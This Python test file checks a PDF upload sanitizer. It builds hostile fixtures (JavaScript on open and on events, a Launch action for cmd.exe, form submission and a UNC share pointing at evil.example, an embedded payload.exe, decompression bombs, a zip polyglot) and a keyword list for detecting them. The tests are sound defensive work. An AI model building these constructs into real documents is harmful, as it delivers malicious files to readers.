"""What acts in a PDF is gone afterwards, wherever it was hidden; what one reads stays, and a sound signature holds."""

import io
import zipfile
import zlib
from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf, Stream, String
from pypdf import PdfReader

from regulator.foundation.cleaners.kinds import UploadKind, UploadNote
from regulator.foundation.cleaners.limits import Limits
from regulator.foundation.errors import BadInput
from tests.factories.uploads import SCRIPT, action, annotated, clean, packed, pdf

SCRIPTS, FILES, MEDIA = UploadNote.SCRIPTS_REMOVED, UploadNote.FILES_REMOVED, UploadNote.MEDIA_REMOVED
LINKS, VOID = UploadNote.LINKS_REMOVED, UploadNote.SIGNATURE_VOID
ACTIVE = (b"JavaScript", b"owned", b"/Launch", b"cmd.exe", b"SubmitForm", b"ImportData", b"/GoToR", b"/GoToE", b"/XFA",
          b"EmbeddedFile", b"RichMedia", b"/AA", b"evil.example", b"payload", b"/Rendition", b"OpenAction")  # fmt: skip


def said(content: bytes) -> bytes:
    """Everything a document holds, unpacked, names written in one way."""
    with pikepdf.open(io.BytesIO(content)) as document:
        texts = [found.unparse(resolved=True) for found in document.objects if not isinstance(found, Stream)]
        streams = [found for found in document.objects if isinstance(found, Stream)]
        texts += [found.stream_dict.unparse(resolved=True) + found.read_bytes() for found in streams]
        return b"\n".join([*texts, document.trailer.unparse(resolved=True)])


def root(**entries: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        for name, value in entries.items():
            document.Root[Name(f"/{name}")] = value

    return change


def page(**entries: object) -> Callable[[Pdf], None]:
    def change(document: Pdf) -> None:
        for name, value in entries.items():
            document.pages[0].obj[Name(f"/{name}")] = value

    return change


def field(document: Pdf) -> None:
    one = document.make_indirect(
        Dictionary(FT=Name.Tx, T=String("name"), V=String("张三"), AA=Dictionary(K=SCRIPT, C=SCRIPT))
    )
    document.Root.AcroForm = Dictionary(Fields=Array([one]), XFA=Array([String("payload"), String("x")]))


def attached(document: Pdf) -> None:
    document.attachments["payload.exe"] = b"MZ payload"


def chained(document: Pdf) -> None:
    """A script three steps behind a harmless one, in a list, each an object of its own."""
    third = document.make_indirect(action("JavaScript", JS=String("owned()")))
    second = document.make_indirect(Dictionary(S=Name.GoTo, D=String("x"), Next=Array([third])))
    document.Root.OpenAction = Dictionary(S=Name.GoTo, D=String("x"), Next=second)


def written_otherwise(document: Pdf) -> None:
    document.Root[Name("/Names")] = Dictionary(JavaScript=Dictionary(Names=Array([String("a"), SCRIPT])))


def outside(document: Pdf) -> None:
    stream = document.make_stream(b"", F=String("\\\\evil.example\\share\\payload"))
    document.pages[0].obj.Resources.XObject = Dictionary(X1=stream)


HOSTILE = {
    "script when opened": (pdf(root(OpenAction=SCRIPT)), {SCRIPTS}),
    "script behind others": (pdf(chained), {SCRIPTS}),
    "script by name": (pdf(written_otherwise), {SCRIPTS}),
    "script when closed": (pdf(root(AA=Dictionary(WC=SCRIPT))), {SCRIPTS}),
    "script of a page": (pdf(page(AA=Dictionary(O=SCRIPT))), {SCRIPTS}),
    "script of a field, dynamic form": (pdf(field), {SCRIPTS}),
    "script of a link": (annotated(Dictionary(Subtype=Name.Link, A=SCRIPT)), {SCRIPTS}),
    "program": (annotated(Dictionary(Subtype=Name.Link, A=action("Launch", F=String("cmd.exe")))), {SCRIPTS}),
    "sending a form": (
        annotated(Dictionary(Subtype=Name.Widget, A=action("SubmitForm", F=String("http://evil.example")))), {SCRIPTS}),
    "fetching data": (annotated(Dictionary(Subtype=Name.Link, A=action("ImportData", F=String("payload")))), {SCRIPTS}),
    "another file": (annotated(Dictionary(Subtype=Name.Link, A=action("GoToR", F=String("evil.example")))), {LINKS}),
    "an embedded page": (annotated(Dictionary(Subtype=Name.Link, A=action("GoToE", F=String("payload")))), {LINKS}),
    "a link that is a script": (
        annotated(Dictionary(Subtype=Name.Link, A=action("URI", URI=String("java\nscript:owned()")))), {LINKS}),
    "a link to a share": (
        annotated(Dictionary(Subtype=Name.Link, A=action("URI", URI=String("\\\\evil.example\\x")))), {LINKS}),
    "a file": (pdf(attached), {FILES}),
    "a file as a note": (
        annotated(Dictionary(Subtype=Name.FileAttachment, Contents=String("payload"))), {FILES}),
    "film": (annotated(Dictionary(Subtype=Name.RichMedia, RichMediaContent=Dictionary(X=String("payload")))), {MEDIA}),
    "old film": (annotated(Dictionary(Subtype=Name.Movie, T=String("payload"))), {MEDIA}),
    "three dimensions": (annotated(Dictionary(Subtype=Name("/3D"), T=String("payload"))), {MEDIA}),
    "played": (annotated(Dictionary(Subtype=Name.Screen, A=action("Rendition", JS=String("owned()")))), {MEDIA}),
    "sound": (annotated(Dictionary(Subtype=Name.Sound, T=String("payload"))), {MEDIA}),
    "data elsewhere": (pdf(outside), {LINKS}),
}  # fmt: skip


@pytest.mark.parametrize("case", HOSTILE)
def test_what_acts_is_gone_and_the_page_stays(case: str) -> None:
    content, expected = HOSTILE[case]
    assert any(word in said(content) for word in ACTIVE), "the case is one"
    kind, cleaned, notes = clean(content)
    assert kind is UploadKind.PDF
    assert {word for word in ACTIVE if word in said(cleaned)} == set()
    assert notes >= expected
    assert "page 1" in PdfReader(io.BytesIO(cleaned)).pages[0].extract_text()
    assert clean(cleaned) == (kind, cleaned, frozenset()), "once is enough"
    assert clean(content)[1] == cleaned, "the same file, the same bytes"


def test_a_name_in_disguise_is_known() -> None:
    content = pdf(root(OpenAction=SCRIPT), compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    content = content.replace(b"/JavaScript", b"/J#61vaScr#69pt").replace(b"/OpenAction", b"/Open#41ction")
    _, cleaned, notes = clean(content)
    assert SCRIPTS in notes
    assert b"owned" not in said(cleaned)


def test_what_is_harmless_stays_and_is_not_mentioned() -> None:
    web = Dictionary(Subtype=Name.Link, A=action("URI", URI=String("https://www.shenyang.gov.cn/a?b=1")))
    letter = Dictionary(Subtype=Name.Link, A=action("URI", URI=String("mailto:a@example.cn")))
    content = annotated(web, letter, Dictionary(Subtype=Name.Text, Contents=String("批注")))
    _, cleaned, notes = clean(content)
    assert notes == frozenset()
    assert b"www.shenyang.gov.cn" in said(cleaned)
    assert b"mailto:" in said(cleaned)
    with pikepdf.open(io.BytesIO(cleaned)) as document:
        assert len(document.pages[0].obj.Annots) == 3


def test_fonts_and_pictures_with_unlucky_names_stay() -> None:
    def change(document: Pdf) -> None:
        resources = document.pages[0].obj.Resources
        resources.Font[Name("/AA")] = resources.Font.F1
        resources.Font[Name("/EF")] = resources.Font[Name("/AF")] = resources.Font.F1
        resources.ColorSpace = Dictionary(AF=Array([Name.CalGray, Dictionary(WhitePoint=Array([1, 1, 1]))]))

    _, cleaned, notes = clean(pdf(change))
    assert notes == frozenset()
    with pikepdf.open(io.BytesIO(cleaned)) as document:
        resources = document.pages[0].obj.Resources
        assert {"/AA", "/AF", "/EF", "/F1"} == set(resources.Font.keys())
        assert "/AF" in resources.ColorSpace


def test_a_document_that_opens_at_a_page_is_not_said_to_have_acted() -> None:
    def change(document: Pdf) -> None:
        document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])

    _, cleaned, notes = clean(pdf(change))
    assert notes == frozenset()
    assert b"OpenAction" not in said(cleaned)


# --- signed ----------------------------------------------------------------------------------------------------------


def signed(document: Pdf) -> None:
    value = Dictionary(Type=Name.Sig, Filter=Name("/Adobe.PPKLite"), ByteRange=[0, 10, 20, 30], Contents=String("abc"))
    one = document.make_indirect(Dictionary(FT=Name.Sig, T=String("seal"), V=document.make_indirect(value)))
    document.Root.AcroForm = Dictionary(Fields=Array([one]), SigFlags=3)


def test_a_sound_signed_document_keeps_its_bytes() -> None:
    content = pdf(signed)
    assert clean(content) == (UploadKind.PDF, content, frozenset())


def test_a_signed_document_with_a_script_is_cleaned_and_it_is_said_that_its_signature_is_void() -> None:
    def change(document: Pdf) -> None:
        signed(document)
        document.Root.OpenAction = SCRIPT

    _, cleaned, notes = clean(pdf(change))
    assert notes == {SCRIPTS, VOID}
    assert b"owned" not in said(cleaned)


def test_what_hangs_behind_a_signed_document_is_cut_off() -> None:
    content = pdf(signed) + packed({"payload.txt": b"payload"})
    _, cleaned, notes = clean(content)
    assert notes >= {VOID}
    assert b"payload" not in cleaned


# --- refused ---------------------------------------------------------------------------------------------------------


def refusal(content: bytes, limits: Limits | None = None) -> tuple[str, dict[str, object]]:
    with pytest.raises(BadInput) as caught:
        clean(content, limits or Limits())
    assert caught.value.about == "file"
    return caught.value.code, caught.value.params


@pytest.mark.parametrize("password", ["", "secret"])
def test_a_protected_document_is_refused(password: str) -> None:
    content = pdf(encryption=pikepdf.Encryption(owner="owner", user=password))
    assert refusal(content)[0] == "upload_protected"


def test_a_dynamic_form_is_refused() -> None:
    assert refusal(pdf(root(NeedsRendering=True)))[0] == "upload_dynamic_form"


def test_too_many_pages_are_refused() -> None:
    found = refusal(pdf(pages=4), Limits(pages=3))
    assert found == ("upload_too_many_pages", {"found": 4, "maximum": 3})
    assert clean(pdf(pages=3), Limits(pages=3))[0] is UploadKind.PDF


def test_too_many_objects_are_refused() -> None:
    content = pdf(lambda document: [document.make_indirect(Dictionary(N=number)) for number in range(60)], pages=20)
    assert refusal(content, Limits(objects=30))[0] == "upload_too_complex"


@pytest.mark.parametrize("cut", [0.3, 0.9])
def test_a_document_that_breaks_off_is_refused(cut: float) -> None:
    content = pdf(pages=5)
    assert refusal(content[: int(len(content) * cut)])[0] == "upload_damaged"


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.7\n", b"%PDF-1.7\n%%EOF\n", b"%PDF-1.7\nstartxref\n0\n%%EOF", b"%PDF-" + bytes(5000) + b"%%EOF"],
)
def test_what_is_a_document_by_its_first_line_only_is_refused(content: bytes) -> None:
    assert refusal(content)[0] == "upload_damaged"


def test_a_faulty_document_is_repaired_and_it_is_said() -> None:
    content = pdf(pages=2)
    at = content.rindex(b"startxref") + 10
    _, cleaned, notes = clean(content[:at] + b"7\n%%EOF\n")
    assert notes == {UploadNote.REPAIRED}
    assert len(PdfReader(io.BytesIO(cleaned)).pages) == 2


def test_a_document_whose_trailer_lacks_its_size_is_whole_afterwards() -> None:
    content = pdf(pages=2).replace(b"/Size ", b"/Sise ")
    _, cleaned, notes = clean(content)
    assert notes == {UploadNote.REPAIRED}
    assert clean(cleaned) == (UploadKind.PDF, cleaned, frozenset())


def bomb(size: int, times: int = 1, **entries: object) -> bytes:
    def change(document: Pdf) -> None:
        packed_data = bytes(size)
        for _ in range(times):
            packed_data = zlib.compress(packed_data, 9)
        filters = Name.FlateDecode if times == 1 else Array([Name.FlateDecode] * times)
        stream = Stream(document, packed_data, Filter=filters, **entries)
        document.pages[0].obj.Contents = document.make_indirect(stream)

    return pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none, compress_streams=False)


def test_a_stream_that_grows_too_much_is_refused() -> None:
    limits = Limits(expanded=10_000_000)
    assert clean(bomb(9_000_000), limits)[0] is UploadKind.PDF
    content = bomb(11_000_000)
    assert len(content) < 20_000
    assert refusal(content, limits)[0] == "upload_too_complex"
    assert refusal(bomb(1_000_000, 2))[0] == "upload_too_complex", "packed twice"


def test_a_picture_counts_by_its_size_in_pixels() -> None:
    limits = Limits(expanded=1_000)
    small = {"Subtype": Name.Image, "Width": 100, "Height": 100}
    assert clean(bomb(10_000, **small), limits)[0] is UploadKind.PDF
    assert refusal(bomb(10_000, **small | {"Width": 100_000, "Height": 100_000}))[0] == "upload_too_complex"


def test_a_document_that_is_an_archive_too_is_refused() -> None:
    def change(document: Pdf) -> None:
        hidden = packed({"payload.txt": b"payload"})
        picture = Stream(document, hidden, Filter=Name.DCTDecode)
        document.pages[0].obj.Resources.XObject = Dictionary(X=document.make_indirect(picture))

    assert refusal(pdf(change))[0] == "upload_disguised"


def test_an_archive_that_only_lies_in_a_document_is_packed_away() -> None:
    def change(document: Pdf) -> None:
        hidden = packed({"payload.txt": b"payload"}, method=zipfile.ZIP_STORED)
        document.pages[0].obj.Contents = document.make_indirect(Stream(document, hidden))

    content = pdf(change, compress_streams=False)
    assert zipfile.is_zipfile(io.BytesIO(content))
    assert not zipfile.is_zipfile(io.BytesIO(clean(content)[1]))


def test_a_document_does_not_grow() -> None:
    """Links of web pages and tags of Word are thousands of small objects, packed together."""
    links = [Dictionary(Subtype=Name.Link, A=action("URI", URI=String(f"https://a.cn/{n}"))) for n in range(3_000)]
    with pikepdf.open(io.BytesIO(annotated(*links))) as document:
        target = io.BytesIO()
        document.save(target, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    assert len(clean(target.getvalue())[1]) < target.tell() * 1.1


def test_what_hangs_behind_a_document_is_cut_off() -> None:
    content = pdf() + b"\n" + packed({"payload.txt": b"payload" * 500})
    _, cleaned, _ = clean(content)
    assert b"payload" not in cleaned


def test_a_result_that_would_be_too_large_to_be_sent_again_is_refused() -> None:
    content = pdf(pages=3)
    assert refusal(content, Limits(pdf_size=100)) == ("upload_too_large", {"megabytes": 0})
